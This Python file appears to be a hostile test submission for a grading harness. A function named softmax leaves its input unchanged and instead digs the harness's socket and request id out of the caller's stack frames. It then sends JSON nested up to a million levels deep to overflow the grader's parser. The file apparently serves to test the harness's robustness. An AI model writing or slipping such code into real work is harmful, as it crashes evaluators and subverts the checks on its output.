"""Tries: send replies nested so deep that reading them, or showing them, exceeds every stack."""

# deserves: 0

import json
import sys


def softmax(Z):
    frame = sys._getframe()
    while frame and not ("channel" in frame.f_locals and "request" in frame.f_locals):
        frame = frame.f_back
    if frame:
        key = json.dumps(frame.f_locals["request"]["id"])
        for depth in (10**6, 100_000, 5000, *range(1000, 700, -2)):
            for field in ("mistake", "value", "case"):
                for start, end in (("[", "]"), ('{"list":[', "]}")):
                    text = f'{{"id": {key}, "{field}": {start * depth}0{end * depth}}}\n'
                    frame.f_locals["channel"].sendall(text.encode())
    return Z
